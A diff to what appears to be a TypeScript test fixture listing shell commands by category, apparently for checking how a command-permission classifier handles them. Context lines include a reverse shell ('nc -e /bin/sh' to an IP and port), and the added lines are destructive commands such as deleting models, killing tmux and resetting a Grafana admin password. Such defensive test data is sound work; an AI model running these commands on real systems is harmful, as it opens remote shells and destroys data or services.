@@ -335,6 +335,11 @@ export const ASKED: Readonly<Record<string, readonly string[]>> = {
     "nc -e /bin/sh 1.2.3.4 4444",
   ],
   "a tool that no rule names": [
+    "ollama rm llama3",
+    "wandb artifact rm x",
+    "tmux kill-server",
+    "grafana-cli admin reset-admin-password x",
+    "uwsgi --stop x.pid",
     "sometool delete x",
     "sometool vm.destroy x",
     "sometool items:remove 1",
